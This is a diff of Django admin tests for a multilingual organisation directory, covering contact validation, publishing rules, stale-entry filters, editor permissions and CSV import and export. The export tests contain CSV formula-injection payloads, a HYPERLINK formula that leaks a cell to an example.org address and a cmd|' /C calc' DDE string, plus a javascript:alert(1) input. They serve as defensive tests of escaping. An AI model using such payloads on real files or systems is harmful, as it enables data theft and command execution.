@@ -11,6 +11,7 @@ from portal.directory.models import ContactPoint, DirectorySettings, Organisatio
 from portal.directory.resources import OrganisationResource
 from portal.directory.vocabulary import ensure_rows
 from tests.directory_factories import make_org
+from tests.editors_helpers import logged_in, staff_user
 
 pytestmark = pytest.mark.django_db
 
@@ -19,16 +20,24 @@ LIST_URL = "/admin/directory/organisation/"
 
 
 @pytest.fixture
-def editor(django_user_model):
-    return django_user_model.objects.create_superuser("editor", "editor@example.org", "x" * 16)
+def superuser(django_user_model):
+    """A superuser. Editors cannot open the directory's admin yet (issue 9, see the xfail
+    tests at the end), so these tests check what the admin does, not who may do it."""
+    return django_user_model.objects.create_superuser("admin", "admin@example.org", "x" * 16)
 
 
 @pytest.fixture
-def staff_client(client, editor):
-    client.force_login(editor)
+def superuser_client(client, superuser, verified_login):
+    verified_login(client, superuser)
     # The admin follows the browser's language; these tests read the English messages.
     client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
     return client
+
+
+@pytest.fixture
+def editor_client(client, django_user_model):
+    """A real member of the Editors group, with staff status and nothing else."""
+    return logged_in(client, staff_user(django_user_model, "editor", "Editors"))
 
 
 def add_form(contacts=(), **overrides):
@@ -76,8 +85,8 @@ def add_form(contacts=(), **overrides):
         ("web-form", "https://example.org/form", "https://example.org/form"),
     ],
 )
-def test_admin_accepts_and_normalises_real_numbers(staff_client, kind, typed, stored):
-    response = staff_client.post(ADD_URL, add_form(contacts=[(kind, typed)]))
+def test_admin_accepts_and_normalises_real_numbers(superuser_client, kind, typed, stored):
+    response = superuser_client.post(ADD_URL, add_form(contacts=[(kind, typed)]))
     assert response.status_code == 302, response.content.decode()[:3000]
     assert ContactPoint.objects.get().value == stored
 
@@ -98,33 +107,35 @@ def test_admin_accepts_and_normalises_real_numbers(staff_client, kind, typed, st
         ("app", "javascript:alert(1)", "Enter a web address starting with https://."),
     ],
 )
-def test_admin_refuses_nonsense_with_a_clear_error(staff_client, kind, typed, message):
-    response = staff_client.post(ADD_URL, add_form(contacts=[(kind, typed)]))
+def test_admin_refuses_nonsense_with_a_clear_error(superuser_client, kind, typed, message):
+    response = superuser_client.post(ADD_URL, add_form(contacts=[(kind, typed)]))
     assert response.status_code == 200
     assert message in response.content.decode()
     assert not Organisation.objects.exists()
 
 
-def test_errors_are_in_the_editors_language(staff_client):
-    staff_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "ar"
-    response = staff_client.post(ADD_URL, add_form(contacts=[("short-code", "9999")]))
+def test_errors_are_in_the_editors_language(superuser_client):
+    superuser_client.defaults["HTTP_ACCEPT_LANGUAGE"] = "ar"
+    response = superuser_client.post(ADD_URL, add_form(contacts=[("short-code", "9999")]))
     assert "ليس رقما قصيرا معروفا في المغرب" in response.content.decode()
 
 
-def test_typing_a_verification_date_records_who_checked(staff_client, editor):
-    assert staff_client.post(ADD_URL, add_form()).status_code == 302
-    assert Organisation.objects.get().verified_by == editor
+def test_typing_a_verification_date_records_who_checked(superuser_client, superuser):
+    assert superuser_client.post(ADD_URL, add_form()).status_code == 302
+    assert Organisation.objects.get().verified_by == superuser
 
 
-def test_publishing_needs_a_source_and_a_date(staff_client):
-    response = staff_client.post(ADD_URL, add_form(source_url="", verified_on=""))
+def test_publishing_needs_a_source_and_a_date(superuser_client):
+    response = superuser_client.post(ADD_URL, add_form(source_url="", verified_on=""))
     html = response.content.decode()
     assert response.status_code == 200
     assert "A source address is required to publish." in html
     assert "A “last verified on” date is required to publish." in html
     assert not Organisation.objects.exists()
     # The same entry as a draft is fine: editors can save their work before checking it.
-    response = staff_client.post(ADD_URL, add_form(source_url="", verified_on="", status="draft"))
+    response = superuser_client.post(
+        ADD_URL, add_form(source_url="", verified_on="", status="draft")
+    )
     assert response.status_code == 302
     assert Organisation.objects.get().status == "draft"
 
@@ -138,27 +149,27 @@ def test_model_clean_enforces_the_rule_outside_the_admin_too():
     assert set(error.value.message_dict) >= {"source_url", "verified_on"}
 
 
-def test_stale_filter_flag_and_verified_today_action(staff_client, editor, settings):
+def test_stale_filter_flag_and_verified_today_action(superuser_client, superuser, settings):
     settings.DIRECTORY_STALE_AFTER_DAYS = 180
     old = make_org("old-line", verified_on=timezone.localdate() - timedelta(days=181))
     make_org("fresh-line")
-    html = staff_client.get(LIST_URL + "?stale=yes").content.decode()
+    html = superuser_client.get(LIST_URL + "?stale=yes").content.decode()
     assert "Organisation old-line" in html and "Organisation fresh-line" not in html
-    html = staff_client.get(LIST_URL + "?stale=no").content.decode()
+    html = superuser_client.get(LIST_URL + "?stale=no").content.decode()
     assert "Organisation fresh-line" in html and "Organisation old-line" not in html
-    assert 'alt="False"' in staff_client.get(LIST_URL).content.decode()  # the stale flag
+    assert 'alt="False"' in superuser_client.get(LIST_URL).content.decode()  # the stale flag
 
-    response = staff_client.post(
+    response = superuser_client.post(
         LIST_URL, {"action": "mark_verified_today", "_selected_action": [old.pk]}
     )
     assert response.status_code == 302
     old.refresh_from_db()
     assert old.verified_on == timezone.localdate()
-    assert old.verified_by == editor
+    assert old.verified_by == superuser
     assert not old.is_stale
 
 
-def test_list_filters_and_search(staff_client):
+def test_list_filters_and_search(superuser_client):
     make_org("child-line", kind="child-protection", regions=["souss-massa"])
     make_org("women-line", kind="women-support", regions=["oriental"], status="draft")
     make_org("short-line", kind="ngo", contacts=[("short-code", "2511")])
@@ -171,7 +182,7 @@ def test_list_filters_and_search(staff_client):
         "?q=منظمة child": {"child-line"},  # the Arabic name, from the English admin
     }
     for query, expected in cases.items():
-        html = staff_client.get(LIST_URL + query).content.decode()
+        html = superuser_client.get(LIST_URL + query).content.decode()
         shown = {
             slug
             for slug in ("child-line", "women-line", "short-line")
@@ -180,18 +191,18 @@ def test_list_filters_and_search(staff_client):
         assert shown == expected, query
 
 
-def test_contact_points_are_edited_inline_with_translation_tabs(staff_client):
+def test_contact_points_are_edited_inline_with_translation_tabs(superuser_client):
     organisation = make_org("line", contacts=[("short-code", "19")])
-    html = staff_client.get(f"{LIST_URL}{organisation.pk}/change/").content.decode()
+    html = superuser_client.get(f"{LIST_URL}{organisation.pk}/change/").content.decode()
     assert 'name="contact_points-0-label_fr"' in html
     assert 'name="contact_points-0-hours_ar"' in html
     assert "modeltranslation/js/tabbed_translation_fields.js" in html
 
 
-def test_settings_are_a_single_row(staff_client):
-    assert staff_client.get("/admin/directory/directorysettings/add/").status_code == 200
+def test_settings_are_a_single_row(superuser_client):
+    assert superuser_client.get("/admin/directory/directorysettings/add/").status_code == 200
     DirectorySettings.objects.create(editors_email="editors@example.org")
-    assert staff_client.get("/admin/directory/directorysettings/add/").status_code == 403
+    assert superuser_client.get("/admin/directory/directorysettings/add/").status_code == 403
 
 
 HEADER = (
@@ -225,9 +236,9 @@ GOOD_2 = "line-two,خط,Ligne deux,Line two,legal-aid,nationwide,everyone,fr,htt
     ],
 )
 def test_csv_import_with_one_bad_row_imports_nothing_and_names_the_row(
-    staff_client, bad_row, reason
+    superuser_client, bad_row, reason
 ):
-    response = staff_client.post(
+    response = superuser_client.post(
         f"{LIST_URL}import/",
         {"format": "0", "import_file": csv_file(GOOD_1, bad_row, GOOD_2)},
     )
@@ -250,8 +261,8 @@ def test_csv_import_of_a_bad_file_through_the_resource_rolls_back(db):
     assert not Organisation.objects.exists()
 
 
-def test_csv_import_then_export_round_trip(staff_client):
-    response = staff_client.post(
+def test_csv_import_then_export_round_trip(superuser_client):
+    response = superuser_client.post(
         f"{LIST_URL}import/", {"format": "0", "import_file": csv_file(GOOD_1, GOOD_2)}
     )
     assert "Confirm import" in response.content.decode()
@@ -266,4 +277,92 @@ def test_csv_import_then_export_round_trip(staff_client):
     assert one.name_fr == "Ligne un" and one.status == "published"
     exported = OrganisationResource().export().csv
     assert "line-one" in exported and "casablanca-settat|online" in exported
-    assert staff_client.get(f"{LIST_URL}export/").status_code == 200
+    assert superuser_client.get(f"{LIST_URL}export/").status_code == 200
+
+
+ISSUE_9 = pytest.mark.xfail(
+    strict=True, reason="issue 9: editors cannot open guides/directory yet"
+)
+
+
+@ISSUE_9
+def test_a_real_editor_adds_a_draft_entry(editor_client):
+    assert editor_client.get(LIST_URL).status_code == 200
+    assert editor_client.get(ADD_URL).status_code == 200
+    response = editor_client.post(ADD_URL, add_form(status="draft"))
+    assert response.status_code == 302
+    assert Organisation.objects.get().status == "draft"
+
+
+@ISSUE_9
+def test_a_real_editor_marks_an_entry_verified_today(editor_client):
+    old = make_org("old-line", verified_on=timezone.localdate() - timedelta(days=181))
+    response = editor_client.post(
+        LIST_URL, {"action": "mark_verified_today", "_selected_action": [old.pk]}
+    )
+    assert response.status_code == 302
+    old.refresh_from_db()
+    assert old.verified_on == timezone.localdate()
+
+
+@pytest.fixture
+def publisher_client(client, django_user_model):
+    """A real member of the Publishers group. Until the directory's permissions are granted
+    to the groups by migration, the view permission is added here (it is what the export
+    needs, and the group will have it)."""
+    from django.contrib.auth.models import Group, Permission
+
+    from tests.editors_helpers import logged_in, staff_user
+
+    Group.objects.get(name="Publishers").permissions.add(
+        Permission.objects.get(codename="view_organisation")
+    )
+    return logged_in(client, staff_user(django_user_model, "publisher", "Publishers"))
+
+
+def exported_csv(client):
+    """The CSV the admin's export view gives, with every column ticked."""
+    import csv
+    import io
+    import re
+
+    page = client.get(f"{LIST_URL}export/").content.decode()
+    ticked = {name: "on" for name in re.findall(r'type="checkbox" name="([^"]+)"', page)}
+    assert ticked, "the export form lists the columns to export"
+    response = client.post(f"{LIST_URL}export/", {"format": "0", "resource": "0", **ticked})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content if response.streaming else [response.content])
+    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_cells_a_spreadsheet_would_run(publisher_client, start):
+    payload = f'{start}HYPERLINK("https://example.org/?leak="&A1,"Call")'
+    make_org(
+        "formula",
+        name_fr=payload,
+        editor_notes=f"{start}cmd|' /C calc'!A0",
+        description_en="-2+3 is a plain sum",
+    )
+    make_org("plain", name_fr="Ligne d'écoute")
+    rows = {row["slug"]: row for row in exported_csv(publisher_client)}
+    assert rows["formula"]["name_fr"] == "'" + payload
+    assert rows["formula"]["editor_notes"] == f"'{start}cmd|' /C calc'!A0"
+    assert rows["formula"]["description_en"] == "'-2+3 is a plain sum"
+    # Ordinary text is exported as it is.
+    assert rows["plain"]["name_fr"] == "Ligne d'écoute"
+    assert rows["plain"]["source_url"] == "https://example.org/source"
+
+
+def test_escaped_export_imports_back_unchanged(db):
+    import tablib
+
+    make_org("formula", name_fr="=1+1", description_en="-2")
+    exported = OrganisationResource().export().csv
+    assert "'=1+1" in exported
+    Organisation.objects.filter(slug="formula").update(name_fr="changed")
+    result = OrganisationResource().import_data(tablib.Dataset().load(exported, "csv"))
+    assert not result.has_errors() and not result.has_validation_errors()
+    organisation = Organisation.objects.get(slug="formula")
+    assert organisation.name_fr == "=1+1" and organisation.description_en == "-2"
